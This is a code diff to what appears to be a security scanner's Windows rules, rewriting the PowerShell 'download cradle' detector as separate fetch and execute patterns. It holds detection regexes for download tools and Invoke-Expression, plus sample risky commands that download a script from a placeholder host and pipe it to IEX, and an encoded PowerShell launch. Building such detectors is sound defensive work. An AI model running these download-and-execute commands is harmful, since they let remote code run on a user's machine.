@@ -1,6 +1,6 @@
 // Windows: the famous forms of PowerShell and cmd attacks. These shells are not parsed, so the rules read bounded text.
 import { type Severity, severity } from "../bands.ts";
-import { type Heuristic, type Threat, onText } from "../heuristic.ts";
+import { type Heuristic, type Threat, clip, onText } from "../heuristic.ts";
 
 /** Each row is one form: id, threat, technique, severity, what it looks like (lower case), reason, one example each way. */
 function form(
@@ -23,6 +23,10 @@ function form(
   };
 }
 
+const cradleFetch =
+  /downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|\bwget\b|\bcurl\b|xmlhttp|net\.webclient|openread|responsetext|xmldocument/u;
+const cradleRun = /\|\s*iex\b|\biex\s*[($"'&]|\binvoke-expression\b|;\s*iex\b|scriptblock\]?::create/u;
+
 export const windows: readonly Heuristic[] = [
   form(
     "windows-encoded",
@@ -34,16 +38,25 @@ export const windows: readonly Heuristic[] = [
     "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
     "powershell -File build.ps1",
   ),
-  form(
-    "windows-download-cradle",
-    "Remote code execution",
-    "T1059.001",
-    severity.critical,
-    /(?:\biex\b|invoke-expression|\|\s*iex|&\s*\(\s*\$)[^\n]{0,400}(?:downloadstring|downloaddata|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|\bwget\b|\bcurl\b|xmlhttp|webclient|openread)|(?:downloadstring|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|xmlhttp|responsetext|\.load\()[^\n]{0,400}(?:\|\s*iex\b|\|\s*invoke-expression|;\s*iex\b|\biex\b|\.invoke\()/u,
-    "It runs the text of a download in PowerShell",
-    "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://e.org/x.ps1')\"",
-    'powershell -c "Invoke-WebRequest https://example.org -OutFile a.html"',
-  ),
+  {
+    id: "windows-download-cradle",
+    threat: "Remote code execution",
+    technique: "T1059.001",
+    score: severity.critical,
+    check: (view) => {
+      const fetched = cradleFetch.exec(view.text);
+      return fetched === null || !cradleRun.test(view.text)
+        ? null
+        : { reason: "It runs the text of a download in PowerShell", evidence: clip(fetched[0]) };
+    },
+    examples: {
+      risky: [
+        `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://e.org/x.ps1')"`,
+        "irm http://e.org/a.ps1 | iex",
+      ],
+      honest: [`powershell -c "Invoke-WebRequest https://example.org -OutFile a.html"`, "iex -S mix"],
+    },
+  },
   form(
     "windows-download-file",
     "Remote code execution",
